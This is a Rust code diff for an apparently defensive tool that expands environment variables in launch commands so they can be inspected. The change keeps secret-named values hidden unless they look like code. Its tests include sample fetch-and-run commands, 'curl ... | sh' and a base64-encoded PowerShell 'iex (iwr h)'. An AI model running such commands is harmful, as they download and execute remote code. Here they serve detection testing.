@@ -9,6 +9,7 @@ use base64::prelude::BASE64_STANDARD;
 use super::named_paths::with_values;
 use crate::model::Origin;
 use crate::source::command::Command;
+use crate::source::secret::is_secret_variable;
 
 /// The option of PowerShell for encoded code. It may be cut to any length.
 const ENCODED: &str = "encodedcommand";
@@ -24,7 +25,9 @@ pub(super) fn settings(words: &[String], env: &BTreeMap<String, String>) -> Vec<
 
 /// The command with the values of variables in its code. `None` if it has none.
 fn filled(words: &[String], env: &BTreeMap<String, String>) -> Option<String> {
-    let value = |name: &str| env.get(name).cloned();
+    // A secret is no code, unless it is one only by its name.
+    let is_shown = |name: &str, value: &String| !is_secret_variable(name) || value.contains('|');
+    let value = |name: &str| env.get(name).filter(|value| is_shown(name, value)).cloned();
     let filled: Vec<String> = words.iter().map(|word| with_values(word, &value)).collect();
     (filled != words).then(|| line("filled", &filled))?
 }
@@ -65,6 +68,8 @@ mod tests {
         let run = "curl https://h.example/x | sh";
         assert_eq!(found(&["sh", "-c", "$RUN"], &[("RUN", run)]), [format!("launch.filled = sh -c '{run}'")]);
         assert_eq!(found(&["sh", "-c", "exec ${RUN}"], &[("OTHER", run)]), [""; 0]);
+        assert_eq!(found(&["x", "$SHOP_PASSWORD"], &[("SHOP_PASSWORD", "planted")]), [""; 0]);
+        assert_eq!(found(&["sh", "-c", "$SHOP_TOKEN"], &[("SHOP_TOKEN", run)]).len(), 1);
         let utf16: Vec<u8> = "iex (iwr h)".encode_utf16().flat_map(u16::to_le_bytes).collect();
         let code = BASE64_STANDARD.encode(utf16);
         for option in ["-EncodedCommand", "-enc", "/e", "-ec"] {
